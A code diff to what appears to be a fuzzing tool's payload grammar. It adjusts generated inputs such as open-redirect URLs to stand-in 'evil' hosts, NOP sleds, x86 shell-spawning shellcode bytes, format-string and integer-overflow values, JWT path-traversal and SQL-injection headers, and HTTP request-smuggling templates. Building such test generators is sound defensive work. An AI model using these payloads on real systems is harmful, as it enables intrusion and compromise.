@@ -161,7 +161,7 @@ internal static class Other
         «redirect¦redirect_uri¦redirect_url¦redirectUrl¦return¦returnUrl¦return_to¦returnTo¦next¦url¦dest¦destination¦continue¦goto¦go¦target¦rurl¦forward¦callback¦checkout_url¦image_url¦view¦out¦to¦link¦u¦r¦service¦RelayState¦success_url¦ReturnUrl¦back¦ref»
         §outurl
         5× «trickurl»
-        3× «http¦https»://«evilhost»«/¦»
+        3× «http¦https»://«namedevil»«/¦»
         2× //«evilhost»«/¦»
         «javascripturl»
         §slashes
@@ -802,7 +802,6 @@ internal static class Other
         %u9090%u9090«¦%u6858¦%u«hexdigit*4»%u«hexdigit*4»%u«hexdigit*4»»«sledu*1-10»
         \x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3«sled*0-6»
         «bigrun»%«n%n¦s%s¦c0%af¦00¦u9090%u«hexdigit*4»»
-        «-»«2147483648¦2147483647¦9223372036854775808¦4294967296¦99999999999999999999¦1e309¦0x7fffffff¦0xffffffff¦1.7976931348623157e+309¦-0¦NaN%00»
         «bigrun»«\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»¦BBBBCCCC¦%«hexdigit*2»%«hexdigit*2»%«hexdigit*2»%«hexdigit*2»»
         §sled
         5× \x90
@@ -815,15 +814,12 @@ internal static class Other
         «x16*6-30»
         «b16*6-30»«¦«a16*2-9»»
         «cyclic*20-80»
-        «n16*6-40»
         §a16
         AAAAAAAAAAAAAAAA
         §b16
-        «BBBBBBBBBBBBBBBB¦CCCCCCCCCCCCCCCC¦////////////////¦................»
+        «BBBBBBBBBBBBBBBB¦CCCCCCCCCCCCCCCC»
         §x16
         «xxxxxxxxxxxxxxxx¦%41%41%41%41%41%41%41%41¦\x41\x41\x41\x41\x41\x41¦AAAA%x%x%x%n¦aaaaaaaaaaaaaaaa»
-        §n16
-        «9999999999999999¦1111111111111111»
         §cyclic
         «A¦B»«a¦b¦c¦d»«#0-9»
 
@@ -885,7 +881,7 @@ internal static class Other
         {"typ":"JWT","alg":"«none¦HS256»","kid":"«../../../dev/null¦«word»' or '1'='1»"}
         §smuggle
         3× 0␍␤␍␤«GET¦POST»«smugpath» HTTP/1.1␍␤Host: «localhost¦«evilhost»¦127.0.0.1»␍␤«X: x¦Foo: x¦X-Ignore: X¦Content-Length: «#1-99»␍␤␍␤x=»
-        Transfer-Encoding«: chunked¦ : chunked¦:␉chunked¦: xchunked¦:␋chunked¦: chunked␍␤Transfer-Encoding: «x¦identity¦cow»»
+        Transfer-Encoding«¦X»«: xchunked¦ : chunked¦:␉chunked¦: xchunked¦:␋chunked¦: chunked␍␤Transfer-Encoding: «x¦identity¦cow»»
         «#1-9»␍␤«letter*1-9»␍␤0␍␤␍␤«GET¦POST» «smugpath» HTTP/1.1␍␤«word»: «word»
         «word»␍␤␍␤«GET¦POST¦PUT¦DELETE» «smugpath» HTTP/1.1␍␤Host: «evilhost»
         %20HTTP/1.1%0d%0a«Host:%20«evilhost»¦X:%20«rand»»%0d%0a%0d%0a«GET%20/«word»%20HTTP/1.1¦»
